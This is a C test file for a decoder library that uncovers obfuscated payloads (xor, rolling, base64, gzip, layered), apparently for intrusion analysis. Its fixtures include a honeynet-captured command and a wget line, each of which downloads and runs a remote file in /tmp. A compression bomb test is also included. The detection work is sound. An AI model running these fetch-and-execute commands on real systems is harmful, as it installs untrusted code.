/* SPDX-License-Identifier: Apache-2.0 */
/* What was made unreadable is read: each method with each key, two of them, and nothing where there is nothing. */
#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>
#include <zlib.h>

#include "base/out.h"
#include "decode/decode.h"

enum { HEAD = 2, FIGURE_LEN = 402, RANDOM_ROUNDS = 300, BOMB_LEN = 4 << 20 };

/* What an intruder of a honeynet sent in a packet of IP protocol 11: each byte the one before it, and 23. */
static const char figure[] = "killall -9 ttserve ; lynx -source http://216.242.103.2:8882/foo > "
			     "/tmp/foo.tgz ; cd /tmp ; "
			     "tar -xvzf foo.tgz ; ./ttserve ; rm -rf foo.tgz ttserve;";
static const char command[] = "cd /tmp; wget http://10.0.0.1/a.sh; sh a.sh";

struct bytes {
	size_t len;
	uint8_t at[DECODE_MAX];
};

static struct decode *d;
static struct bytes made, more;

static int set_up(void **state)
{
	(void)state;
	return decode_new(&d);
}

static int tear_down(void **state)
{
	(void)state;
	d = decode_free(d);
	return 0;
}

static struct bytes *bytes_of(const char *text)
{
	made.len = strlen(text);
	memcpy(made.at, text, made.len);
	return &made;
}

static uint8_t rolled(const struct bytes *b, size_t i)
{
	return i > 0 ? b->at[i - 1] : 0;
}

/* The other way round from what undoes it. */
static void hide(struct bytes *b, enum decode_method_id method, uint8_t key)
{
	uint8_t before = key;

	for (size_t i = 0; i < b->len; i++) {
		uint8_t byte = b->at[i];
		size_t back = b->len - 1 - i;

		if (method == DECODE_XOR)
			b->at[i] = byte ^ key;
		else if (method == DECODE_SUB)
			b->at[i] = (uint8_t)(byte + key);
		else if (method == DECODE_ADD)
			b->at[i] = (uint8_t)(byte - key);
		else if (method == DECODE_ROLLING)
			b->at[i] = (uint8_t)(byte + key + rolled(b, i));
		else if (method == DECODE_ROLLING_XOR)
			b->at[i] = byte ^ key ^ rolled(b, i);
		else if (method == DECODE_ROLLING_SUM)
			b->at[i] = (uint8_t)(byte - before);
		else if (method == DECODE_ROLLING_BACK)
			b->at[back] = (uint8_t)(b->at[back] + key +
						(back + 1 < b->len ? b->at[back + 1] : 0));
		before = byte;
	}
}

static void hide_base64(struct bytes *b)
{
	struct out o = out_make((char *)more.at, sizeof(more.at));

	out_base64(&o, b->at, b->len);
	memcpy(b->at, more.at, o.len);
	b->len = o.len;
}

static void hide_packed(struct bytes *b, int window)
{
	z_stream z = { .next_in = b->at,
		.avail_in = (uInt)b->len,
		.next_out = more.at,
		.avail_out = sizeof(more.at) };

	assert_int_equal(deflateInit2(&z, 9, Z_DEFLATED, window, 8, Z_DEFAULT_STRATEGY), Z_OK);
	assert_int_equal(deflate(&z, Z_FINISH), Z_STREAM_END);
	b->len = z.total_out;
	deflateEnd(&z);
	memcpy(b->at, more.at, b->len);
}

/* In memory of its own size, so that a sanitizer sees a read past the end. */
static bool try_best(const struct bytes *b, struct decode_result *ret_result)
{
	uint8_t *copy = malloc(b->len ? b->len : 1);
	size_t n;

	assert_non_null(copy);
	memcpy(copy, b->at, b->len);
	n = decode_try(d, copy, b->len, 1, ret_result);
	free(copy);
	return n == 1 && ret_result->is_clear;
}

static void check_text(const struct bytes *b, const struct decode_result *r, const char *text)
{
	size_t len;
	const uint8_t *at = decode_bytes(d, r, b->at, b->len, &len);

	assert_true(r->at + r->len <= len);
	assert_non_null(memmem(at + r->at, r->len, text, strlen(text)));
}

static void check_found(const struct bytes *b, const char *method, const char *text)
{
	struct decode_result r;
	char name[DECODE_NAME_MAX];

	assert_true(try_best(b, &r));
	decode_name(&r, name);
	if (method)
		assert_string_equal(name, method);
	check_text(b, &r, text);
}

static void make_figure(bool random_rest)
{
	made.len = FIGURE_LEN - HEAD;
	memset(made.at, 0, made.len);
	for (size_t i = 0; random_rest && i < made.len; i++)
		made.at[i] = (uint8_t)random();
	memcpy(made.at, figure, strlen(figure));
	hide(&made, DECODE_ROLLING, 23);
	memmove(made.at + HEAD, made.at, made.len);
	made.len += HEAD;
	made.at[0] = 2;
	made.at[1] = 0;
}

static void test_figure(void **state)
{
	(void)state;
	make_figure(false);
	check_found(&made, "rolling difference 0x17", figure);
	make_figure(true);
	check_found(&made, "rolling difference 0x17", figure);
}

/* Letters that only change their case can be read as they are. */
static bool is_readable(enum decode_method_id method, uint8_t key)
{
	if (method == DECODE_SUB)
		key = (uint8_t)-key;
	return method <= DECODE_ADD && (key == 0 || key == 0x20);
}

static void test_every_key(void **state)
{
	(void)state;
	for (unsigned method = 0; method < DECODE_BASE64; method++)
		for (unsigned key = 0; key < 256; key++) {
			struct bytes *b = bytes_of(command);
			struct decode_result r;

			hide(b, (enum decode_method_id)method, (uint8_t)key);
			/* A first byte that has no predecessor may be lost. */
			if (is_readable((enum decode_method_id)method, (uint8_t)key))
				assert_false(try_best(b, &r));
			else
				check_found(b, NULL, command + 1);
			assert_true(decode_with(
				d, (enum decode_method_id)method, (int)key, b->at, b->len, &r));
			check_text(b, &r, command + 1);
		}
}

static void test_name_of_key(void **state)
{
	(void)state;
	hide(bytes_of(command), DECODE_SUB, 200);
	check_found(&made, "add 0x38", command);
	hide(bytes_of(command), DECODE_XOR, 0x5a);
	check_found(&made, "xor 0x5a", command);
	assert_int_equal(decode_method_find("rolling-difference"), DECODE_ROLLING);
	assert_int_equal(decode_method_find("rolling difference"), DECODE_ROLLING);
	assert_int_equal(decode_method_find("rolling"), DECODE_METHODS);
	assert_int_equal(decode_method_find(""), DECODE_METHODS);
}

static void test_packed(void **state)
{
	(void)state;
	hide_base64(bytes_of(command));
	check_found(&made, "base64", command);
	hide_packed(bytes_of(command), 15 + 16);
	check_found(&made, "gzip", command);
	hide_packed(bytes_of(command), 15);
	check_found(&made, "gzip", command);
}

static void test_two_layers(void **state)
{
	(void)state;
	hide_packed(bytes_of(command), 15 + 16);
	hide_base64(&made);
	check_found(&made, "base64, gzip", command);
	hide(bytes_of(command), DECODE_XOR, 0x5a);
	hide_base64(&made);
	check_found(&made, "base64, xor 0x5a", command);
	hide(bytes_of(figure), DECODE_ROLLING, 9);
	hide_packed(&made, 15);
	check_found(&made, "gzip, rolling difference 0x09", figure + 1);
	hide_base64(bytes_of(command));
	hide_base64(&made);
	check_found(&made, "base64, base64", command);
}

static void test_behind_a_header(void **state)
{
	static const uint8_t head[] = { 0, 1, 2, 3, 0xff, 0xfe, 7, 0 };

	(void)state;
	for (unsigned method = 0; method <= DECODE_GZIP; method++) {
		struct bytes *b = bytes_of(figure);

		if (method == DECODE_BASE64)
			hide_base64(b);
		else if (method == DECODE_GZIP)
			hide_packed(b, 15);
		else
			hide(b, (enum decode_method_id)method, 77);
		memmove(b->at + sizeof(head), b->at, b->len);
		memcpy(b->at, head, sizeof(head));
		b->len += sizeof(head);
		check_found(b, NULL, figure + 1);
	}
}

/* Of every beginning the same method comes out, once there is enough of it; nothing wrong before. */
static void test_every_prefix(void **state)
{
	unsigned found = 0;
	size_t whole;

	(void)state;
	make_figure(false);
	whole = made.len;
	for (size_t len = 0; len <= whole; len++) {
		struct decode_result r;
		char name[DECODE_NAME_MAX];

		made.len = len;
		if (!try_best(&made, &r)) {
			assert_int_equal(found, 0);
			continue;
		}
		found++;
		decode_name(&r, name);
		assert_string_equal(name, "rolling difference 0x17");
	}
	assert_true(found > whole - 60);
}

static void test_random(void **state)
{
	static const size_t len[] = { 8, 16, 40, 100, 255, 256, 500, 1400, 4000 };

	(void)state;
	for (unsigned round = 0; round < RANDOM_ROUNDS; round++) {
		struct decode_result r;

		made.len = len[round % (sizeof(len) / sizeof(len[0]))];
		for (size_t i = 0; i < made.len; i++)
			made.at[i] = (uint8_t)(random() >> 7);
		assert_false(try_best(&made, &r));
	}
}

/* What is there to be read already, or says nothing. */
static void test_plain(void **state)
{
	static const char *const plain[] = { figure, command, "HELLO WORLD, THIS IS THE SERVER",
		"the quick brown fox jumps over the lazy dog and the other one",
		"aaaaaaaaaaaaaaaa" };
	struct decode_result r;

	(void)state;
	for (size_t i = 0; i < sizeof(plain) / sizeof(plain[0]); i++)
		assert_false(try_best(bytes_of(plain[i]), &r));
	for (unsigned byte = 0; byte < 256; byte++) {
		made.len = 1000;
		memset(made.at, (int)byte, made.len);
		assert_false(try_best(&made, &r));
		for (size_t i = 0; i < made.len; i++)
			made.at[i] = (uint8_t)(i * byte);
		assert_false(try_best(&made, &r));
	}
	made.len = 0;
	for (unsigned i = 1; i < 300; i++)
		made.len += (size_t)snprintf((char *)made.at + made.len, 8, "%u\n", i);
	assert_false(try_best(&made, &r));
	/* Upper case with NULs between: another form of it is no news. */
	made.len = 0;
	for (const char *c = "MICROSOFT NETWORKS AND THE PROGRAM FILES"; *c; c++) {
		made.at[made.len++] = (uint8_t)*c;
		made.at[made.len++] = 0;
	}
	assert_false(try_best(&made, &r));
}

static void test_program(void **state)
{
	static const uint8_t elf[] = { 0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2,
		0, 62, 0, 1, 0, 0, 0 };
	struct decode_result r;

	(void)state;
	made.len = sizeof(elf);
	memcpy(made.at, elf, sizeof(elf));
	assert_false(try_best(&made, &r));
	hide(&made, DECODE_XOR, 0xa7);
	assert_true(try_best(&made, &r));
	assert_true(r.is_file);
	assert_int_equal(r.step[0].key, 0xa7);
	assert_int_equal(r.at, 0);
}

static void test_bomb(void **state)
{
	uint8_t *zeros = calloc(1, BOMB_LEN);
	uLongf len = sizeof(made.at);
	struct decode_result r;
	size_t decoded;

	(void)state;
	assert_non_null(zeros);
	assert_int_equal(compress(made.at, &len, zeros, BOMB_LEN), Z_OK);
	free(zeros);
	made.len = len;
	assert_false(try_best(&made, &r));
	assert_true(decode_with(d, DECODE_GZIP, DECODE_ANY_KEY, made.at, made.len, &r));
	assert_non_null(decode_bytes(d, &r, made.at, made.len, &decoded));
	assert_int_equal(decoded, DECODE_MAX);
}

static void test_results(void **state)
{
	struct decode_result r[DECODE_RESULTS_MAX], again[DECODE_RESULTS_MAX];
	size_t n;

	(void)state;
	make_figure(false);
	n = decode_try(d, made.at, made.len, DECODE_RESULTS_MAX, r);
	assert_int_equal(n, DECODE_RESULTS_MAX);
	for (size_t i = 1; i < n; i++)
		assert_true(r[i - 1].score >= r[i].score);
	assert_int_equal(decode_try(d, made.at, made.len, DECODE_RESULTS_MAX, again), n);
	for (size_t i = 0; i < n; i++) {
		assert_int_equal(r[i].score, again[i].score);
		assert_int_equal(r[i].step[0].key, again[i].step[0].key);
	}
	assert_int_equal(decode_try(d, made.at, made.len, 0, r), 0);
	assert_int_equal(decode_try(d, NULL, 0, 1, r), 0);
	made.len = sizeof(made.at);
	assert_int_equal(decode_try(d, made.at, made.len, 1, r), 1);
	assert_true(r[0].is_clear);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_figure),
		cmocka_unit_test(test_every_key),
		cmocka_unit_test(test_name_of_key),
		cmocka_unit_test(test_packed),
		cmocka_unit_test(test_two_layers),
		cmocka_unit_test(test_behind_a_header),
		cmocka_unit_test(test_every_prefix),
		cmocka_unit_test(test_random),
		cmocka_unit_test(test_plain),
		cmocka_unit_test(test_program),
		cmocka_unit_test(test_bomb),
		cmocka_unit_test(test_results),
	};

	return cmocka_run_group_tests(tests, set_up, tear_down);
}
